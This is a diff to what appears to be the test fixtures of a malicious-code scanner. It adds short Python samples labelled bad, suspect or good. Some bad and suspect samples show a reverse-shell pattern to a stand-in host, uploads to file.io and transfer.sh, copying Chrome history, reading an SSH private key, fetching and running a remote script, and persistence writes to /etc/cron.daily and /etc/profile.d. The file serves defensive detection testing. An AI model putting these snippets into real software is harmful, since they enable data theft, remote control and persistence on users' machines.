@@ -154,6 +154,13 @@ BAD: dict[str, str] = {
     "homoglyph": "def еval(x): return x\n",
     "fullwidth-exec": "ｅxec('1')\n",
     "odd-coding": "# coding: utf-7\nx = 1\n",
+    "pip-commands": "import subprocess\nCOMMANDS = ['pip install x']\nfor c in COMMANDS:\n    subprocess.run(c.split())\n",
+    "file-io": "import requests\nrequests.post('https://file.io', files={})\nrequests.post('https://www.transfer.sh/x')\n",
+    "file-io-bare": "import http.client\nhttp.client.HTTPSConnection('file.io')\n",
+    "reverse-shell-names": "import os, socket\ns = socket.create_connection(('a.test', 1))\nh = s.fileno()\nfor n in (0, 1, 2):\n    os.dup2(h, n)\n",
+    "chrome-history": "import os, shutil\nshutil.copy(os.path.expanduser('~/.config/google-chrome/Default/History'), 'x')\n",
+    "profile-d": "open('/etc/profile.d/x.sh', 'w')\n",
+    "cron-daily": "open('/etc/cron.daily/x', 'w')\n",
 }
 
 SUSPECT: dict[str, str] = {
@@ -184,6 +191,7 @@ SUSPECT: dict[str, str] = {
     "urlretrieve-import": "import urllib.request,runpy\nurllib.request.urlretrieve('http://a.test/x.py','/tmp/x.py')\nrunpy.run_path('/tmp/x.py')\n",
     "ssh-func": "import os\ndef home(*p):\n    return os.path.join(os.path.expanduser('~'),*p)\nopen(home('.ssh','id_rsa')).read()\n",
     "importlib-spec": "import importlib.util as u\ns=u.spec_from_loader('x',None)\nexec(open('payload.txt').read())\n",
+    "install-named": "import subprocess\nHINTS = ['pip install x']\nsubprocess.run(['ffmpeg'])\n",
     "full-width": "\uff4f\uff53\uff58 = 1\n",
 }
 
@@ -303,6 +311,23 @@ GOOD: dict[str, str] = {
     "map-chr": "t=''.join(map(chr,range(32,127)))\n",
     "threads": "import threading\nthreading.Thread(target=print,args=('x',)).start()\n",
     "telemetry-off": "import os\nos.environ.setdefault('GRADIO_ANALYTICS_ENABLED','0')\n",
+    "install-remedies": "def f(error):\n    raise error('x', remedies=['pip install xformers', 'use medvram'])\n",
+    "install-lines": "HINT = '\\n'.join(['It is missing. Install it:', '  pip install xformers'])\n",
+    "install-rows": "ROWS = [('xformers', 'pip install xformers'), ('triton', 'conda install triton')]\n",
+    "install-error": "import subprocess\ndef f():\n    raise subprocess.SubprocessError('no ffmpeg: pip install imageio-ffmpeg')\n",
+    "beside-itself": "PRESETS = __file__.replace('plugin.py', 'presets.json')\n",
+    "forward-slashes": "import os\nHERE = os.path.abspath(__file__).replace(os.sep, '/')\n",
+    "path-replace": "from pathlib import Path\nPath('a.tmp').replace('a.json')\nPath('a').rename('b')\n",
+    "no-window": "import subprocess\nFLAGS = getattr(subprocess, 'CREATE_NO_WINDOW', 0)\n",
+    "module-file-io": "import logging\nlog = logging.getLogger('inkwash.file.io')\n",
+    "profile-io": "PAGE = 'https://profile.io/'\n",
+    "transfer-script": "import subprocess\nsubprocess.run(['bash', 'scripts/transfer.sh'])\nsubprocess.run(['bash', './interact.sh'])\n",
+    "monochrome": "from pathlib import Path\nP = Path('styles') / 'monochrome' / 'history.json'\nopen('monochrome_history.json')\n",
+    "chromium-notes": "open('docs/chromium/History.md')\n",
+    "slack-storage": "from pathlib import Path\nP = Path('backends') / 'slack' / 'storage.json'\n",
+    "own-etc": "from pathlib import Path\nPath('etc/profiles/soft.json').write_text('{}')\n",
+    "quiet-beside-sqlite": "import os, sqlite3, sys\nC = sqlite3.connect('cache.db')\ndef quiet(s):\n    os.dup2(s.fileno(), sys.stderr.fileno())\n",
+    "quiet-beside-socket": "import os, socket, sys\nS = socket.socket()\nwith open(os.devnull, 'wb') as null:\n    os.dup2(null.fileno(), 2)\nkept = os.dup(2)\nos.dup2(kept, sys.stderr.fileno())\n",
     "certify-word": "TITLE = 'We certify that this ink is black.'\n",
 }
 DECLARED = frozenset({"cdn.declared.test"})
